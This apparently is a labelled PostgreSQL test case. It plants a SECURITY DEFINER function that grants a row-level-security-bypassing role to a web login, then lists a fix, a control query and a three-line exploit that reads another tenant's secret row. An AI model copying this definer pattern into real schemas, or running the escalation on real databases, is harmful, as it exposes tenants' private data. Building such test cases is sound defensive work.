-- What: A definer function of a superuser's grants the maintenance role.
-- Class: function_definer|role_grants_itself
-- Object: public.elevate()
-- Exploit: Call it, then SET ROLE.
-- App: definer_grants_web
-- Roles: definer_grants_web maintenance
-- @superuser
create role definer_grants_web login;
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to definer_grants_web;
-- @superuser
create role maintenance nologin bypassrls;
grant select on items to maintenance;
create function elevate() returns void language plpgsql security definer
  set search_path = pg_catalog, pg_temp as $$ begin grant maintenance to definer_grants_web; end $$;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
revoke execute on function elevate() from public;
-- @control
select from items where tenant_id = :'A';
-- @exploit
select elevate();
set role maintenance;
select body from items where body = 'B-secret';
